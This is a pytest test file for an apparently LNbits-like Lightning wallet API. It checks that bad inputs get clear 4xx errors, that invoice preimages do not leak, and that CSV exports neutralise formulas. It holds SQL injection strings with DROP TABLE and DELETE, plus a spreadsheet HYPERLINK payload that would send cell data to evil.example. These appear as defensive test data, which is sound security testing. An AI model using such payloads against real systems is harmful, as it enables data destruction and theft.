"""Review: inputs that must be a clear 4xx (never a 500), and history leaks."""

from datetime import UTC

import pytest
from fulmen.db import query


def is_clear_4xx(r) -> bool:
    return 400 <= r.status_code < 500 and bool(r.json().get("detail"))


@pytest.mark.parametrize(
    "params",
    [
        "time[ge]=inf",
        "time[ge]=1e300",
        "amount[ge]=99999999999999999999999",
        "offset=99999999999999999999999",
    ],
)
async def test_review_history_out_of_range_numbers_are_400(fulmen_db, params):
    client = await fulmen_db.start()
    alice = await fulmen_db.wallet("alice")
    r = await client.get(f"/api/v1/payments?{params}", headers=alice.read_headers)
    assert is_clear_4xx(r), (r.status_code, r.text)


@pytest.mark.parametrize("params", ["amount[like]=1", "fee[like]=0", "time[like]=2026"])
async def test_review_like_on_a_number_field_is_not_500_on_postgres(pg_fulmen, params):
    client = await pg_fulmen.start()
    alice = await pg_fulmen.wallet("alice", sats=1)
    r = await client.get(f"/api/v1/payments?{params}", headers=alice.read_headers)
    assert r.status_code == 200 or is_clear_4xx(r), (r.status_code, r.text)


@pytest.mark.parametrize("tag", [5, "x" * 100, ["a"]], ids=["int", "long", "list"])
async def test_review_invoice_extra_tag_of_wrong_type_or_length_is_400(pg_fulmen, tag):
    client = await pg_fulmen.start()
    alice = await pg_fulmen.wallet("alice")
    r = await client.post(
        "/api/v1/payments",
        headers=alice.invoice_headers,
        json={"out": False, "amount": 5, "extra": {"tag": tag}},
    )
    assert is_clear_4xx(r), (r.status_code, r.text)


async def test_review_overlong_idempotency_key_is_400(pg_fulmen):
    client = await pg_fulmen.start()
    alice = await pg_fulmen.wallet("alice", sats=10)
    bob = await pg_fulmen.wallet("bob")
    inv = await pg_fulmen.invoice(bob, 1)
    r = await client.post(
        "/api/v1/payments",
        headers={**alice.admin_headers, "Idempotency-Key": "k" * 200},
        json={"out": True, "bolt11": inv["bolt11"]},
    )
    assert is_clear_4xx(r), (r.status_code, r.text)
    assert await pg_fulmen.balance(alice) == 10_000


async def test_review_memo_too_long_for_bolt11_in_bytes_is_400(fulmen):
    client = await fulmen.start()
    alice = await fulmen.wallet("alice")
    r = await client.post(
        "/api/v1/payments",
        headers=alice.invoice_headers,
        json={"out": False, "amount": 5, "memo": "é" * 639},
    )
    assert is_clear_4xx(r), (r.status_code, r.text)


async def test_review_admin_topup_out_of_range_is_400(fulmen_db):
    client = await fulmen_db.start()
    alice = await fulmen_db.wallet("alice")
    r = await client.put(
        "/users/api/v1/balance",
        json={"id": alice.id, "amount": 10**20},
        headers=fulmen_db.admin_headers,
    )
    assert is_clear_4xx(r), (r.status_code, r.text)
    r = await client.post(
        f"/admin/api/v1/wallets/{alice.id}/balance",
        json={"amount_msat": 2**63, "reason": "x"},
        headers=fulmen_db.admin_headers,
    )
    assert is_clear_4xx(r), (r.status_code, r.text)


async def test_review_admin_list_negative_limit_is_400(pg_fulmen):
    client = await pg_fulmen.start()
    for path in ("/admin/api/v1/accounts?limit=-1", "/admin/api/v1/wallets?offset=-1"):
        r = await client.get(path, headers=pg_fulmen.admin_headers)
        assert is_clear_4xx(r), (path, r.status_code, r.text)


async def test_review_decimal_sat_amount_converts_exactly(fulmen):
    client = await fulmen.start()
    alice = await fulmen.wallet("alice")
    r = await client.post(
        "/api/v1/payments", headers=alice.invoice_headers, json={"out": False, "amount": 1.001}
    )
    assert r.status_code == 201, r.text
    assert r.json()["amount"] == 1001


async def test_review_history_filters_do_not_reveal_an_unpaid_invoices_preimage(fulmen_db):
    """The preimage of an unpaid invoice is hidden in every response; a
    `preimage` filter must not let a key holder find it anyway (16 requests a
    hex digit with `preimage[like]`)."""
    client = await fulmen_db.start()
    alice = await fulmen_db.wallet("alice")
    inv = await fulmen_db.invoice(alice, 10)
    assert inv["preimage"] is None
    stored = await query(
        "SELECT preimage, bolt11 FROM fulmen_payment WHERE payment_hash = {}", inv["payment_hash"]
    )
    assert stored[0]["preimage"] is None  # FakeWallet derives it again when paid
    secret = fulmen_db.host.payments.known_preimage({**stored[0], "payment_hash": inv["payment_hash"]})
    assert secret
    for params in ({"preimage": secret}, {"preimage[like]": secret[:8]}, {"preimage[ge]": secret}):
        r = await client.get("/api/v1/payments", params=params, headers=alice.read_headers)
        found = r.status_code == 200 and any(
            p["payment_hash"] == inv["payment_hash"] for p in r.json()
        )
        assert not found, f"{params} matched the unpaid invoice"


# --- properties verified to hold --------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {"memo": "' OR 1=1 --"},
        {"memo[like]": "%' OR '1'='1"},
        {"search": "' OR 1=1 --"},
        {"status[in]": "success') OR ('1'='1"},
        {"tag[ex]": "x') OR wallet_id <> ('"},
    ],
)
async def test_review_history_values_are_bound_not_spliced(fulmen_db, params):
    client = await fulmen_db.start()
    alice = await fulmen_db.wallet("alice", sats=10)
    bob = await fulmen_db.wallet("bob")
    inv = await fulmen_db.invoice(bob, 1, memo="bob's")
    await fulmen_db.pay(alice, inv["bolt11"])
    r = await client.get("/api/v1/payments", params=params, headers=bob.read_headers)
    assert r.status_code == 200, r.text
    assert all(p["wallet_id"] == bob.id for p in r.json())
    if "ex" not in next(iter(params)):
        assert r.json() == []


@pytest.mark.parametrize(
    "params",
    [
        {"sortby": "created_at; DROP TABLE fulmen_wallet"},
        {"direction": "asc; DELETE FROM fulmen_ledger"},
        {"amount);DROP TABLE x;--": "1"},
        {"wallet_id": "x"},
        {"amount[or]": "1"},
    ],
)
async def test_review_history_names_come_from_allow_lists(fulmen_db, params):
    client = await fulmen_db.start()
    alice = await fulmen_db.wallet("alice", sats=1)
    r = await client.get("/api/v1/payments", params=params, headers=alice.read_headers)
    # another wallet's wallet_id is refused as a 403 (LNbits clients may send their own)
    assert r.status_code == (403 if "wallet_id" in params else 400) and r.json()["detail"]
    assert await fulmen_db.balance(alice) == 1000


async def test_review_paying_an_invoice_for_more_than_int64_msat_is_400(fulmen_db):
    import secrets
    import time

    import bolt11
    from bolt11 import Bolt11, MilliSatoshi, TagChar, Tags

    client = await fulmen_db.start()
    alice = await fulmen_db.wallet("alice", sats=1)
    tags = Tags()
    tags.add(TagChar.payment_hash, secrets.token_hex(32))
    tags.add(TagChar.payment_secret, secrets.token_hex(32))
    tags.add(TagChar.description, "all of it")
    huge = bolt11.encode(
        Bolt11(currency="bc", date=int(time.time()), tags=tags, amount_msat=MilliSatoshi(10**20)),
        secrets.token_hex(32),
    )
    r = await client.post(
        "/api/v1/payments", headers=alice.admin_headers, json={"out": True, "bolt11": huge}
    )
    assert is_clear_4xx(r), (r.status_code, r.text)


async def test_review_csv_export_neutralises_formulas(fulmen):
    """An outgoing payment's memo is the payee's invoice description: text an
    outsider chose. Spreadsheet formulas in it must not reach the export as such."""
    client = await fulmen.start()
    alice = await fulmen.wallet("alice", sats=10)
    bob = await fulmen.wallet("bob")
    inv = await fulmen.invoice(bob, 1, memo='=HYPERLINK("https://evil.example/?"&A1,"refund")')
    assert (await fulmen.pay(alice, inv["bolt11"])).status_code == 201
    r = await client.get("/api/v1/payments/export.csv", headers=alice.read_headers)
    assert r.status_code == 200
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows and not rows[0]["memo"].startswith(("=", "+", "-", "@")), rows[0]["memo"]


async def test_review_iso_time_filter_without_offset_is_utc(fulmen, monkeypatch):
    """Responses give times in UTC; a filter time without an offset must mean
    UTC too, whatever the server's TZ."""
    import time
    from datetime import datetime, timedelta

    client = await fulmen.start()
    alice = await fulmen.wallet("alice")
    await fulmen.invoice(alice, 1)
    monkeypatch.setenv("TZ", "Etc/GMT-10")  # UTC+10
    time.tzset()
    try:
        soon = (datetime.now(UTC) + timedelta(hours=1)).replace(tzinfo=None).isoformat()
        r = await client.get(
            "/api/v1/payments", params={"time[lt]": soon}, headers=alice.read_headers
        )
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()
    assert r.status_code == 200 and len(r.json()) == 1, r.text
